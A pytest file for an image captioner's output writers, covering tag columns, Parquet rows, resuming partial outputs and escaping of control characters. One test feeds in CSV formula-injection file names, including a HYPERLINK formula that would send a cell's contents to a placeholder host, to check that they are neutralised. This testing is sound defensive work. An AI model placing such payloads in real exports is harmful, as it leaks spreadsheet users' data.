"""The one record serialiser (`captioner.outputs`): tags in every format, Parquet, and resuming with a tags column.

Captions are built by hand here (no model), so these tests do not depend on `caption_iter(return_tags=True)`.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from captioner.cli.output_file import OutputResumeError, PartialOutput
from captioner.outputs import RECORD_FIELDS, CaptionWriter, csv_header, record, record_key, to_json_line
from captioner.results import Alternative, Caption, Tag


def _tagged(source="a/pizza.jpg", text="a pizza on a plate") -> Caption:
    return Caption(source=source, text=text, score=-1.5, logprob=-3.0,
                   alternatives=[Alternative(text, -1.5, -3.0), Alternative("a pizza", -1.75, -2.5)],
                   tags=[Tag("pizza", 0.9312), Tag("plate", 0.0414)])


def _failed(source="a/bad.jpg") -> Caption:
    return Caption(source=source, error=f"{source}: empty file (0 bytes)")


def _render(fmt: str, captions, n_best: int = 1, tags: bool = True) -> str:
    out = io.StringIO()
    writer = CaptionWriter(out, fmt, n_best, tags=tags)
    for c in captions:
        writer.write(c)
    return out.getvalue()


def test_record_has_tags_only_when_the_caption_has_them():
    rec = record(_tagged(), n_best=2)
    assert rec["tags"] == [{"label": "pizza", "probability": 0.9312}, {"label": "plate", "probability": 0.0414}]
    assert list(rec) == ["path", "caption", "score", "logprob", "alternatives", "tags", "error"]
    assert "tags" not in record(_failed()) and "tags" not in record(Caption(source="x", text="a"))
    assert record(Caption(source="x", text="a", tags=[]))["tags"] == []
    strict = record(Caption(source="x", text="a", tags=[Tag("odd", float("nan"))]))
    assert strict["tags"] == [{"label": "odd", "probability": None}]
    json.loads(to_json_line(strict))  # strict JSON: NaN became null


def test_record_fields_are_in_record_order():
    every = record(Caption(source="bad\udcff.jpg", text="a", alternatives=[Alternative("a", -1.0, -1.0)],
                           tags=[Tag("pizza", 0.5)]), n_best=2)
    assert tuple(every) == RECORD_FIELDS


def test_csv_tags_column():
    text = _render("csv", [_tagged(), _failed()], n_best=2)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["path", "caption", "score", "error", "alternative_2", "tags"] == csv_header(2, tags=True)
    assert rows[1] == ["a/pizza.jpg", "a pizza on a plate", "-1.5000", "", "a pizza", "pizza:0.931;plate:0.041"]
    assert rows[2][-1] == "" and rows[2][3]
    assert csv_header(1) == ["path", "caption", "score", "error"]  # without --tags: unchanged
    assert "tags" not in _render("csv", [_tagged()], tags=False)


def test_text_tags_after_a_tab_and_keys_still_found():
    lines = _render("text", [_tagged(), _failed()], n_best=2).splitlines(keepends=True)
    assert lines[0] == "a/pizza.jpg\ta pizza on a plate\t[pizza 0.93, plate 0.04]\n"
    assert lines[1] == "a/pizza.jpg\t  alt -1.750: a pizza\n"
    assert lines[2] == "a/bad.jpg\tERROR a/bad.jpg: empty file (0 bytes)\n"
    assert [record_key(line, "text") for line in lines] == ["a/pizza.jpg", None, "a/bad.jpg"]
    label = Caption(source="x", text="a", tags=[Tag("two\twords\n", 0.5)])
    assert _render("text", [label]) == "x\ta\t[two words 0.50]\n"  # a label never breaks the line


def test_jsonl_tags():
    [line] = _render("jsonl", [_tagged()]).splitlines()
    assert json.loads(line)["tags"][0] == {"label": "pizza", "probability": 0.9312}
    assert record_key(line, "jsonl") == "a/pizza.jpg"


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "text"])
def test_resume_keeps_the_records_of_a_tagged_output(tmp_path, fmt):
    target = tmp_path / f"o.{fmt}"
    target.write_text(_render(fmt, [_tagged("p/1.jpg"), _failed("p/2.jpg")], n_best=2) + "p/3.jp", encoding="utf-8")
    out = PartialOutput(target, fmt, resume=True)
    assert out.open(csv_header(2, tags=True) if fmt == "csv" else None) == {"p/1.jpg", "p/2.jpg"}
    out.close(keep=False)


def test_resume_refuses_a_csv_with_other_columns(tmp_path):
    target = tmp_path / "o.csv"
    target.write_text(_render("csv", [_tagged()], tags=False), encoding="utf-8")
    with pytest.raises(OutputResumeError, match="--tags"):
        PartialOutput(target, "csv", resume=True).open(csv_header(1, tags=True))


def test_parquet_rows_are_the_records(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet")
    from captioner.parquet import ParquetCaptionWriter

    captions = [_tagged(), _failed(), _tagged("odd\udcff.jpg")]
    path = tmp_path / "o.parquet"
    with open(path, "wb") as fh:
        writer = ParquetCaptionWriter(fh, n_best=2, tags=True, row_group_size=2)
        for c in captions:
            writer.write(c)
        writer.close()
    table = pq.read_table(path)
    assert table.schema.field("tags").type.value_type.names == ["label", "probability"]  # list<struct>
    assert pq.ParquetFile(path).num_row_groups == 2
    rows = [{k: v for k, v in r.items() if v is not None or k != "path_bytes"} for r in table.to_pylist()]
    want = [record(c, 2) for c in captions]
    assert rows[0] == want[0] and rows[2] == want[2]
    assert rows[1] == {**want[1], "tags": None}  # a failed image has no tags: a null cell


@pytest.mark.parametrize("line", ['{}', '[1]', '5', '{"path": 5}'])
def test_resume_refuses_json_lines_that_are_not_records(tmp_path, line):
    target = tmp_path / "o.jsonl"
    target.write_text(line + "\n", encoding="utf-8")
    with pytest.raises(OutputResumeError, match="not a whole jsonl output"):
        PartialOutput(target, "jsonl", resume=True).open()
    assert target.read_text(encoding="utf-8") == line + "\n"


@pytest.mark.parametrize("fmt", ["jsonl", "text"])
def test_resume_keeps_records_of_names_with_unicode_line_breaks(tmp_path, fmt):
    from captioner.outputs import written_path

    # Line breaks to str.splitlines, not to the resume's reader. This version writes them escaped in jsonl (as
    # \u2028) and the two controls escaped in text (\x85, \x0c); earlier versions wrote them raw, as the raw
    # record appended last does (what such an output holds), and its resume must find it too.
    names = ["p/a\u2028b.jpg", "p/c\x85d.jpg", "p/e\x0cf.jpg"]
    raw = "p/g\u2028h\x85i\x0cj.jpg"
    old = (json.dumps({"path": raw, "caption": "a"}, ensure_ascii=False) if fmt == "jsonl" else f"{raw}\ta") + "\n"
    assert "\u2028" in old and "\x85" in old
    target = tmp_path / f"o.{fmt}"
    target.write_text(_render(fmt, [_tagged(n) for n in names]) + old, encoding="utf-8")
    out = PartialOutput(target, fmt, resume=True)
    assert out.open() == {written_path(n, fmt) for n in names} | {raw}
    out.close(keep=False)


def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text():
    from captioner.escapes import csv_cell
    from captioner.outputs import written_path

    sources = ['=HYPERLINK("http://x.test/?"&B2,"open").jpg', "+1.jpg", "-2.jpg", "@SUM(A1).jpg", "\tx.jpg",
               "\rx.jpg", "'q.jpg", "''.jpg", "plain=.jpg"]
    captions = [Caption(source=s, text="=1+1", score=-1.5, logprob=-3.0,
                        alternatives=[Alternative("=1+1", -1.5, -3.0), Alternative("-a dog", -2.0, -4.0)],
                        tags=[Tag("=evil", 0.5)]) for s in sources]
    captions.append(Caption(source="@bad.jpg", error="=cannot be read"))
    text = _render("csv", captions, n_best=2)
    rows = list(csv.reader(io.StringIO(text)))[1:]
    for row, source in zip(rows, sources + ["@bad.jpg"]):
        assert row[0] == (source if source.startswith("plain") else "'" + source)
        assert row[0][1:] == source or row[0] == source  # one leading ' removed gives the name back
    ok = rows[0]
    assert ok[1:] == ["'=1+1", "-1.5000", "", "'-a dog", "'=evil:0.500"]  # the score stays a number
    assert rows[-1][3] == "'=cannot be read"
    lines = text.split("\r\n")[1:-1]  # csv's record ends; the "\r" inside a quoted name is not one
    assert [record_key(line, "csv") for line in lines] == [written_path(s, "csv") for s in sources + ["@bad.jpg"]]
    assert csv_cell("a dog") == "a dog" and csv_cell("") == ""


def test_json_lines_hold_no_raw_c1_controls_or_line_separators_and_read_back_the_same():
    rec = record(Caption(source="p/a\x9b2K\x7f\u2028\u2029\x1b.jpg", text="a dog\x85", score=-1.0, logprob=-2.0))
    line = to_json_line(rec)
    assert not any(c in line[:-1] for c in "\x9b\x7f\u2028\u2029\x1b\x85\n")
    assert len(line.splitlines()) == 1 and json.loads(line) == rec
    assert record_key(line, "jsonl") == "p/a\x9b2K\x7f\u2028\u2029\x1b.jpg"
